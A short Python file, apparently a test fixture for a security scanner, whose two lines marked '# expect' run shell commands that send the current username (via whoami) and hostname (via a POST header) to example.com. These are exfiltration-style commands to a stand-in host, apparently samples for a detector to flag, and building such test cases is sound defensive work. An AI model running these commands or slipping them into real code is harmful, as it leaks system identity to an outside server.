import os
import subprocess

os.system("curl https://example.com/?u=$(whoami)")  # expect
subprocess.run('curl -X POST -H "Hostname: $(hostname)" https://example.com/x', shell=True)  # expect
